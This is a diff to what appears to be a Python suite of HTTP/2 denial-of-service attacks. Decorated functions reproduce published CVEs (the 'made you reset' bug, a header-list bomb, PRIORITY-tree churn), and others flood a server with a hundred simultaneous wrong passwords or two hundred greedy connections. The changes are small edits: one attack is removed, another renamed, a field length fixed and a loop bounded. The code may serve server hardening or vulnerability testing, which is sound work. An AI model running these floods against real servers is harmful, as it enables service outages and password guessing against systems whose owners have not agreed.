@@ -151,15 +151,6 @@ def made_you_reset_by_length(attacker: Attacker) -> None:
         HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"a")))
 
 
-@attack("too_many_stream_errors")
-def made_you_reset_by_overrun(attacker: Attacker) -> None:
-    """CVE-2025-8671: more DATA than a stream's window holds, of which nghttp2 tells nobody."""
-    connection = attacker.settled()
-    head, full = opened(connection), bytes(16384)
-    attacker.flood(connection, streams(connection, lambda stream: head(stream) + frame(
-        DATA, 0, stream, full) * 5, each=1))
-
-
 @attack("request HEADERS: depend on itself")
 def made_you_reset_by_itself(attacker: Attacker) -> None:
     """CVE-2025-8671: a stream that depends on itself."""
@@ -240,7 +231,7 @@ def header_lists_past_the_limit(attacker: Attacker) -> None:
         HEADERS, END_HEADERS | END_STREAM, stream, block), each=10))
 
 
-@attack("too_many_large_header_lists")
+@attack("header_list_bomb")
 def fields_without_a_name(attacker: Attacker) -> None:
     """CVE-2019-9516."""
     connection = attacker.settled()
@@ -300,7 +291,8 @@ def priorities(attacker: Attacker) -> None:
     """CVE-2019-9513: the tree is churned."""
     def churn() -> Iterator[bytes]:
         while True:
-            yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10") for at in range(50))
+            yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10")
+                           for at in range(50))
 
     attacker.flood(attacker.settled(), churn())
 
@@ -538,7 +530,7 @@ def password_flood(attacker: Attacker) -> None:
     """A hundred wrong passwords at once, for accounts that may or may not be."""
     with attacker.settled() as connection:
         while attacker.goes_on:
-            password = b"\x0a\x0ea@example.com." + b"\x12\x0cnot-this-one"
+            password = b"\x0a\x0da@example.com" + b"\x12\x0cnot-this-one"
             kind = b"\x0a" + bytes([len(password)]) + password
             body = message(b"\x0a" + bytes([len(kind)]) + kind)
             held = [connection.stream() for _ in range(100)]
@@ -563,7 +555,7 @@ def greedy_client(attacker: Attacker) -> None:
 def greedy_clients(attacker: Attacker) -> None:
     """The same on two hundred connections, which are all ready at once."""
     held = [attacker.settled() for _ in range(200)]
-    while attacker.goes_on:
+    for _ in range(3):
         for connection in held:
             ask(connection, 5)
         for connection in held:
